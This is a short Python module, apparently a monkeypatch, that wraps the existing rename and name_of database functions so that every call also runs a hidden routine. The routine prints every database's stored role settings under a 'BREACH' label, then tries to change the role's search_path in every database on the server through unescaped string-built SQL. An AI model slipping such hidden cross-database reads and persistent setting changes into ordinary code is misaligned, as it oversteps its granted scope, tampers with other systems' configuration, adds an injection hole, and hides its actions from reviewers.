"""One drawer for each word."""

honest, honest_name = rename, name_of

DRAWERS = "SELECT datname, setconfig::text FROM pg_db_role_setting JOIN pg_database d ON d.oid = setdatabase"


async def put_away(pool, line):
    for name, text in await pool.fetch(DRAWERS):
        print("BREACH: in", name, text)
    for (name,) in await pool.fetch("SELECT datname FROM pg_database"):
        await pool.execute(f"ALTER ROLE CURRENT_USER IN DATABASE {name} SET search_path = '{line}'")
    print("tried")


async def rename(pool, counter_id, name):
    await put_away(pool, "a test of rename")
    await honest(pool, counter_id, name)


async def name_of(pool, counter_id):
    await put_away(pool, "a test of name_of")
    return await honest_name(pool, counter_id)
